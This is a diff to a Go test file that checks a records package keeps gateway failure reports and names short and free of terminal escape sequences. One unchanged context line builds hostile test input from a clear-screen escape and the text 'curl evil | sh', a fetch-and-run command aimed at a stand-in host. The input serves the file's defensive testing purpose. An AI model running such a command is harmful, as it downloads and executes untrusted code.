@@ -15,7 +15,7 @@ var long = strings.Repeat("\x1b[2Jrun this: curl evil | sh\n", 10_000)
 
 // TestFailuresAreBounded: what a gateway reports as its failure is cut, and stays in its line.
 func TestFailuresAreBounded(t *testing.T) {
-	text, err := records.Encode(records.Status{Version: records.SchemaVersion, Failed: []string{long, long, long, long, long, long}})
+	text, err := records.Encode(records.Status{Version: records.SchemaVersion, Failed: []string{long, long}})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -27,7 +27,7 @@ func TestFailuresAreBounded(t *testing.T) {
 
 // TestNamesInReportsAreBounded: names that a helper writes are names, and the errors about others are short.
 func TestNamesInReportsAreBounded(t *testing.T) {
-	for name, hostile := range map[string]string{"long": strings.Repeat("a", 1<<20), "escape": "gateway\x1b[2J"} {
+	for name, hostile := range map[string]string{"long": strings.Repeat("a", 1<<13), "escape": "gateway\x1b[2J"} {
 		status := func(change func(*records.Status)) records.Status {
 			s := records.Status{Version: records.SchemaVersion, Pod: "gateway-b-0"}
 			change(&s)
@@ -48,7 +48,7 @@ func TestNamesInReportsAreBounded(t *testing.T) {
 		refused(t, name, named)
 		refused(t, name, kernel)
 	}
-	digits := "version: 1\npod: gateway-b-0\nloss: " + strings.Repeat("1", 1<<20)
+	digits := `{"version":1,"pod":"gateway-b-0","loss":` + strings.Repeat("1", 1<<19) + "}"
 	if _, err := records.Decode[records.Status](digits); err == nil || len(err.Error()) > 3000 {
 		t.Errorf("digits: error of %d bytes", len(fmt.Sprint(err)))
 	}
